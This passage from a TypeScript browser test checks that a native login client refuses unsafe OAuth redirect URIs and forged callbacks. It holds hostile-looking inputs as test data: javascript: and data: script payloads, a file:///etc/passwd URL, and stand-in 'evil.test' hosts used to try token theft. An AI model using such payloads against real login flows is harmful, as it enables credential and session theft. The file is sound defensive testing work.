    ' javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    `blob:${world.app}/0f6c`,
    'myapp:/callback',
    'com.:/callback',
    `http://evil.test:${world.port}/callback`,
    'http://127.0.0.1.evil.test/callback',
    'http://localhost.evil.test/callback',
    'http://0.0.0.0/callback',
    'http://[::ffff:127.0.0.1]/callback',
    '//evil.test/callback',
    '/callback',
    '',
  ];
  for (const redirectUri of refused) {
    const result = await page.evaluate((r) => (window as any).native.login({ redirectUri: r }), redirectUri);
    expect(result, redirectUri).toMatchObject({ ok: false, name: 'ConfigError', option: 'redirectUri' });
  }
  // Not strings at all, however they print.
  const others = await page.evaluate(() =>
    Promise.all(
      [42, { toString: () => 'com.example.app:/callback' }, ['com.example.app:/callback'], new URL('com.example.app:/callback'), null].map((r) => (window as any).native.login({ redirectUri: r })),
    ),
  );
  for (const result of others) expect(result).toMatchObject({ ok: false, name: 'ConfigError', option: 'redirectUri' });
  expect(await page.evaluate(() => (window as any).native.login({ navigate: 'location.assign' }))).toMatchObject({ ok: false, name: 'ConfigError', option: 'navigate' });
  expect(await page.evaluate(() => (window as any).native.opened.length)).toBe(0);
  expect(await stored(page)).toEqual({ pending: [], sessions: [] });

  // navigate brings back something: only a URL at this login's redirect URI completes it.
  const viaNavigate = async (kind: string): Promise<Outcome> => {
    const pending = page.evaluate(() => {
      const w = window as any;
      return w.native.outcome(w.native.client.login({ navigate: (url: string) => new Promise((resolve) => (w.navigated = { url, resolve })) }));
    });
    await page.waitForFunction(() => (window as any).navigated !== undefined);
    const genuine = answer(world.op, await page.evaluate(() => (window as any).navigated.url as string));
    await page.evaluate(
      ({ k, genuineUrl, evilUrl }) => {
        const w = window as any;
        let reads = 0;
        const values: Record<string, unknown> = {
          number: 42,
          object: {},
          elsewhere: new URL(evilUrl),
          // Checked once, redeemed as checked: a value that changes when read again gains nothing.
          liar: { toString: () => (reads++ === 0 ? genuineUrl : evilUrl) },
          nothing: '',
        };
        w.navigated.resolve(values[k]);
        w.navigated = undefined;
      },
      { k: kind, genuineUrl: genuine, evilUrl: `${world.evil.origin}/callback${new URL(genuine).search}` },
    );
    return pending;
  };
  for (const kind of ['number', 'object', 'elsewhere']) expect(await viaNavigate(kind), kind).toMatchObject({ ok: false, name: 'ProtocolError', code: 'invalid_callback' });
  expect(world.op.count('token')).toBe(0);
  expect(await viaNavigate('nothing')).toEqual({ ok: true });
  expect(await viaNavigate('liar')).toMatchObject({ ok: true, kind: 'login', sub: 'alice' });
  expect(world.op.count('token', 'authorization_code')).toBe(1);
  expect(world.evil.hits).toEqual([]);
});
